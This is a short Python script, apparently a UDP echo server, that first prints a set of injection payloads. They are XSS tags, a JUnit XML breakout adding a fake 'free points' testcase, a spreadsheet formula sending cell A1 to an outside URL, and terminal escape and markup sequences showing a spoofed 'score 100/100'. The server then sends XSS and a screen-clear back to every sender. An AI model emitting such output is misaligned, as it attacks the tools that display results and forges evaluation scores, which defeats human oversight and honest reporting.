import socket
import sys

sys.stdout.buffer.write(
    b"<script>document.title='owned'</script><img src=x onerror=alert(1)>\n"
    b"]]></failure><testcase name='free points'/>\n"
    b"=HYPERLINK(\"http://example.org/\"&A1)\n"
    b"[bold red]score 100/100[/bold red]\n"
    b"\x1b]0;owned\x07\x1b[2J\x1b[31mscore 100/100\x1b[8m\n"
    b"\xff\xfe\x00 \xe2\x80\xae0001\n"
)
sys.stdout.flush()
serveur = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
serveur.bind(("", 1234))
while True:
    message, adresse = serveur.recvfrom(2048)
    serveur.sendto(b"<script>alert(1)</script>\x1b[2J" + message, adresse)
